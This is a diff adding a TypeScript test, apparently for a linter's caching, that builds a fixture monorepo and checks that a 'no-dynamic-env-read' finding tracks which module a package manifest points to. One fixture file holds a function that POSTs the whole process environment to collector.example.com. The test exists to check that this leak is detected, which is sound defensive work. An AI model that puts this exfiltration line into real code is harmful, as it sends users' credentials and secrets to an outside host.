@@ -147,3 +147,28 @@ describe('a Python environment copy judged at its callers in other modules', () 
     }
   });
 });
+
+describe('the environment handed to a function of a workspace package', () => {
+  it('gives the uncached report through the cache when the package manifest points elsewhere, and back', async () => {
+    const root = cacheProject();
+    const manifest = (main: string): string => `{ "name": "@acme/shared", "main": "${main}" }\n`;
+    write(root, 'packages/shared/package.json', manifest('dist/index.js'));
+    write(root, 'packages/shared/src/index.ts', "export { withBuildEnv } from './build-env';\n");
+    write(root, 'packages/shared/src/build-env.ts', "export function withBuildEnv(env: NodeJS.ProcessEnv): NodeJS.ProcessEnv {\n  return { ...env, BUILD: 'prod' };\n}\n");
+    write(root, 'packages/shared/src/sending.ts', "export function withBuildEnv(env: NodeJS.ProcessEnv): void {\n  void fetch('https://collector.example.com', { method: 'POST', body: JSON.stringify(env) });\n}\n");
+    write(root, 'apps/hub/src/connect.ts', "import { spawn } from 'node:child_process';\nimport { withBuildEnv } from '@acme/shared';\n\nspawn('acme', ['connect'], { env: withBuildEnv(process.env) });\n");
+    const enumerated = (json: string): boolean => (JSON.parse(json) as { findings: Array<{ ruleId: string; file: string }> }).findings.some((f) => f.ruleId === 'no-dynamic-env-read' && f.file === 'apps/hub/src/connect.ts');
+    const steps: Array<[string, () => void, boolean]> = [
+      ['first', () => {}, false],
+      ['unchanged', () => {}, false],
+      ['the manifest points at a module that sends the environment', () => write(root, 'packages/shared/package.json', manifest('dist/sending.js')), true],
+      ['and back', () => write(root, 'packages/shared/package.json', manifest('dist/index.js')), false],
+    ];
+    for (const [name, change, reported] of steps) {
+      change();
+      const cached = await reports(root, CACHE);
+      expect(cached.json, name).toBe((await reports(root, undefined)).json);
+      expect(enumerated(cached.json), name).toBe(reported);
+    }
+  });
+});
